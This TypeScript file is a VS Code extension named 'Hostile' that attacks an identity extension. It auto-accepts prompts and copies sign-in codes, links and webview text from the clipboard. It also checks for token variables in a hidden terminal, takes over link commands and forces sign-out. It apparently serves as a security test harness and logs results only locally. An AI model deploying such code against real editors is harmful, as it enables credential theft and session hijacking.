import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';

/** VS Code commands that accept the focused item of a quick pick. */
const LIST = ['workbench.action.acceptSelectedQuickOpenItem', 'quickInput.accept', 'list.select'];
/** VS Code commands that press the first button of a notification. A sign-in's first button is Cancel. */
const MESSAGE = [
  'notifications.showList',
  'list.select',
  'notification.acceptPrimaryAction',
  'notifications.focusToasts',
  'notification.acceptPrimaryAction',
];
/** Repeated, because pressing before the target is visible does nothing. */
const ROUNDS = 20;

export function activate(context: vscode.ExtensionContext): void {
  // The loot goes to the log, because a notification could be behind a dialog.
  const log = vscode.window.createOutputChannel('Hostile', { log: true });
  const register = (command: string, steal: () => Promise<string>): void => {
    const tell = async (): Promise<void> => {
      log.info(`${command} has ${await steal()}. End.`);
    };
    context.subscriptions.push(vscode.commands.registerCommand(`hostile.${command}`, tell));
  };
  context.subscriptions.push(log);
  register('copySignIn', copySignIn);
  register('readNotification', readNotification);
  register('readPage', readPage);
  register('takeTerminalTokens', takeTerminalTokens);
  register('pressMessages', pressMessages);
  register('takeLinks', takeLinks);
  register('signOut', signOut);
}

/** Runs a command without awaiting it, because it can wait for the user. */
function start(command: string, ...args: unknown[]): void {
  void vscode.commands.executeCommand(command, ...args).then(undefined, () => undefined);
}

async function run(command: string): Promise<void> {
  await vscode.commands.executeCommand(command).then(undefined, () => undefined);
}

/** Gives VS Code time to render. */
function wait(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 100));
}

async function press(commands: readonly string[]): Promise<void> {
  for (let round = 0; round < ROUNDS; round++) for (const command of commands) await run(command);
}

/** Returns what `work` leaves on the clipboard. */
async function loot(work: () => Promise<void>): Promise<string> {
  await vscode.env.clipboard.writeText('');
  await work();
  return vscode.env.clipboard.readText();
}

async function copySignIn(): Promise<string> {
  const stolen: string[] = [];
  for (const command of ['bapIdentity.copySignInCode', 'bapIdentity.copySignInLink'])
    stolen.push(
      await loot(async () => {
        start(command);
        await press(LIST);
      }),
    );
  return stolen.join();
}

/** Copies the accessible view, finds the sign-in's ID in it, and runs its commands. */
async function readNotification(): Promise<string> {
  await run('notifications.showList');
  await run('editor.action.accessibleView');
  let text: string;
  let id: string | undefined;
  do {
    text = await loot(selectAndCopy); // copies nothing until the view is rendered
    id = /%22([0-9a-f-]{36})%22/.exec(text)?.[1];
  } while (id === undefined);
  const copied = await loot(async () => {
    const link = (await links()).find((command) => command.endsWith('.copyLink'));
    start(link ?? '', id);
    await press(LIST);
  });
  return `${text} and ${copied}`;
}

/** Selects and copies the focused webview. */
async function readPage(): Promise<string> {
  return loot(async () => {
    for (let round = 0; round < ROUNDS; round++) await selectAndCopy();
  });
}

async function selectAndCopy(): Promise<void> {
  await run('editor.action.selectAll');
  await run('editor.action.clipboardCopyAction');
  await wait();
}

async function takeTerminalTokens(): Promise<string> {
  const folder = await mkdtemp(path.join(tmpdir(), 'hostile-'));
  const stolen: string[] = [];
  for (const mode of ['identityAndAdomToken', 'identityAndTokens']) {
    const { Global } = vscode.ConfigurationTarget;
    await vscode.workspace.getConfiguration().update('bapIdentity.terminal.environment', mode, Global);
    await press([...LIST, ...MESSAGE]);
    stolen.push(await environmentOf(path.join(folder, mode)));
  }
  return stolen.join();
}

/** Returns which variables a hidden terminal has. */
async function environmentOf(file: string): Promise<string> {
  const terminal = vscode.window.createTerminal({ hideFromUser: true });
  const names = '${BAP_ID:+id}${ADOMPKG_TOKEN:+ Adom}${CLAWNET_TOKEN:+ Sigma}';
  terminal.sendText(`echo "[${names}]" > ${file}.part; mv ${file}.part ${file}`);
  for (;;) {
    const text = await readFile(file, 'utf8').catch(() => undefined);
    if (text !== undefined) return text.trim();
    await wait();
  }
}

async function pressMessages(): Promise<string> {
  await press([...LIST, ...MESSAGE]);
  return environmentOf(path.join(await mkdtemp(path.join(tmpdir(), 'hostile-')), 'environment'));
}

/** The commands behind the links of notifications. */
async function links(): Promise<string[]> {
  return (await vscode.commands.getCommands()).filter((command) => command.startsWith('_bapIdentity.'));
}

/** Registers the commands behind links as its own, and returns those that it got, and what all are called in common. */
async function takeLinks(): Promise<string> {
  const all = await links();
  const taken = all.filter((command) => {
    try {
      vscode.commands.registerCommand(command, () => undefined);
      return true;
    } catch {
      return false;
    }
  });
  const parts = new Set(all.map((command) => command.split('.').slice(0, -1).join('.')));
  return `${taken.join()} of ${[...parts].join()}`;
}

async function signOut(): Promise<string> {
  start('bapIdentity.signOut');
  await press(LIST);
  return '';
}
